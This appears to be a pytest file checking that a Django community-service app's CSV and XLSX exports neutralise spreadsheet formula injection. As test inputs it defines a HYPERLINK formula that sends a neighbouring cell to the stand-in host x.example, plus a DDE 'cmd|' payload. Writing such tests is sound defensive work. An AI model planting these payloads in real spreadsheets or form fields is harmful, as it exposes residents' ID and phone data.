"""Spreadsheet formula injection: text typed by anyone (a resident's name on the public QR form, a project
title, a station's name) never reaches a CSV or XLSX export as a formula, in any export of the project.

Every export writes through `sws.exports` (`csv_response`, `build_workbook`); these tests read each
export's file back and look at every cell."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.urls import reverse

from residents.models import Request
from stations.models import District, Station, User
from sws import exports
from tests.sws import factories as sf
from tests.sws.conftest import MARCH

# What an attacker types (issue 14): a link that sends the neighbouring cell (an ID number, a phone) away.
HYPERLINK = '=HYPERLINK("http://x.example/?"&F2,"详情")'
FULL_WIDTH = "＝1+1"  # normalised into "=" by spreadsheet programs
DANGEROUS = [HYPERLINK, FULL_WIDTH, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "﹦1"]


def _csv_cells(response) -> list[str]:
    assert response.status_code == 200, response
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def _xlsx_cells(response) -> list:
    assert response.status_code == 200, response
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_no_formula_csv(cells, *expected_texts):
    for cell in cells:
        assert cell[:1] not in ("=", "+", "@", "\t", "\r", "＝", "﹦"), cell
        assert not (cell.startswith("-") and not exports.PLAIN_NUMBER.fullmatch(cell)), cell
    for text in expected_texts:  # the text is still there, readable, behind an apostrophe
        assert "'" + text in cells, (text, cells)


def _assert_no_formula_xlsx(cells, *expected_texts):
    for cell in cells:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert cell.value[:1] not in ("=", "+", "-", "@", "\t", "\r", "＝", "﹦"), cell.value
    # XML reads a carriage return back as a line feed.
    values = [cell.value.replace("\r", "\n") if isinstance(cell.value, str) else cell.value for cell in cells]
    for text in expected_texts:
        assert "'" + text.replace("\r", "\n") in values, (text, values)


# --- the helper and the two writers ----------------------------------------------------------------------
@pytest.mark.parametrize("text", DANGEROUS)
def test_safe_text_neutralises_what_starts_a_formula(text):
    assert exports.safe_text(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["张桂兰", "", "'=already", " =1", "1+1", "-3", "+12.5%", "-1,234.00", "a=b"]
)
def test_safe_text_leaves_other_text_alone(text):
    assert exports.safe_text(text) == text


def test_csv_writer_neutralises_every_text_cell():
    response = exports.csv_response("x.csv", [HYPERLINK, "数值"], [[text, -3, "-3"] for text in DANGEROUS])
    cells = _csv_cells(response)
    _assert_no_formula_csv(cells, *DANGEROUS)
    assert cells.count("-3") == 2 * len(DANGEROUS)  # numbers, and figures written as text, stay as they are


def test_xlsx_writer_writes_text_as_strings_never_formulas():
    sheet = exports.Sheet(
        title="表",
        headers=[HYPERLINK, "数值"],
        rows=[[text, -3, datetime.date(2026, 3, 1)] for text in DANGEROUS],
        preamble=[FULL_WIDTH],
        formats=[None, "#,##0"],
    )
    response = exports.xlsx_response("x.xlsx", [sheet])
    cells = _xlsx_cells(response)
    _assert_no_formula_xlsx(cells, *DANGEROUS)
    assert [c.value for c in cells if isinstance(c.value, int)] == [-3] * len(DANGEROUS)
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))


# --- every export of the project -------------------------------------------------------------------------
def _list_url(name, fmt):
    return reverse("exports:list", args=[name, fmt])


@pytest.fixture
def injected(dataset, guoyuan, chaoyangli):
    """Text fields of every list typed as formulas."""
    resident = sf.make_resident(chaoyangli, HYPERLINK, phone="13812345678")
    request = sf.store_request(guoyuan, chaoyangli, received_at=sf.at(2026, 4, 1))
    # The anonymous QR form fills in the reporter's name and the description; a worker links the resident.
    Request.objects.filter(pk=request.pk).update(
        reporter_name=HYPERLINK, description=FULL_WIDTH, resident=resident
    )
    sf.make_project(guoyuan, title=HYPERLINK)
    sf.make_activity(guoyuan, datetime.date(2026, 3, 15), title=HYPERLINK)
    sf.make_resource(guoyuan, datetime.date(2026, 3, 15), "10.00", description=HYPERLINK)
    return dataset


@pytest.mark.parametrize("name", ["requests", "residents", "projects", "activities", "resources"])
def test_list_exports_hold_no_formula(client, injected, worker, name):
    client.force_login(worker)
    _assert_no_formula_csv(_csv_cells(client.get(_list_url(name, "csv"))), HYPERLINK)
    _assert_no_formula_xlsx(_xlsx_cells(client.get(_list_url(name, "xlsx"))), HYPERLINK)


def test_request_export_neutralises_the_full_width_equals_sign(client, injected, worker):
    client.force_login(worker)
    _assert_no_formula_csv(_csv_cells(client.get(_list_url("requests", "csv"))), HYPERLINK, FULL_WIDTH)
    _assert_no_formula_xlsx(_xlsx_cells(client.get(_list_url("requests", "xlsx"))), HYPERLINK, FULL_WIDTH)


@pytest.fixture
def injected_names(dataset, guoyuan, beichen, worker):
    """Names the admin types (station, district) and a worker's name, as formulas."""
    Station.objects.filter(pk=guoyuan.pk).update(name=HYPERLINK)
    District.objects.filter(pk=beichen.pk).update(name=FULL_WIDTH)
    User.objects.filter(pk=worker.pk).update(name=HYPERLINK)
    return dataset


def test_dashboard_exports_hold_no_formula(
    client, injected_names, district_user, city_user, guoyuan, beichen
):
    client.force_login(district_user)
    url = reverse("dashboards:district-export", args=[beichen.pk, "csv"])
    _assert_no_formula_csv(_csv_cells(client.get(url, MARCH)), HYPERLINK)
    url = reverse("dashboards:district-export", args=[beichen.pk, "xlsx"])
    _assert_no_formula_xlsx(_xlsx_cells(client.get(url, MARCH)), HYPERLINK)
    url = reverse("dashboards:station-export", args=[guoyuan.pk, "xlsx"])
    _assert_no_formula_xlsx(_xlsx_cells(client.get(url, MARCH)))
    url = reverse("dashboards:station-export", args=[guoyuan.pk, "csv"])
    _assert_no_formula_csv(_csv_cells(client.get(url, MARCH)))
    client.force_login(city_user)
    url = reverse("dashboards:city-export", args=["csv"])
    _assert_no_formula_csv(_csv_cells(client.get(url, MARCH)), FULL_WIDTH)
    _assert_no_formula_xlsx(
        _xlsx_cells(client.get(reverse("dashboards:city-export", args=["xlsx"]), MARCH)), FULL_WIDTH
    )


def test_monthly_report_workbooks_hold_no_formula(client, injected_names, district_user, guoyuan, beichen):
    client.force_login(district_user)
    cells = _xlsx_cells(client.get(reverse("reports:station-xlsx", args=[guoyuan.pk, 2026, 3])))
    _assert_no_formula_xlsx(cells)
    assert any(isinstance(c.value, str) and c.value.startswith("'" + HYPERLINK) for c in cells)
    cells = _xlsx_cells(client.get(reverse("reports:district-xlsx", args=[beichen.pk, 2026, 3])))
    _assert_no_formula_xlsx(cells, HYPERLINK)
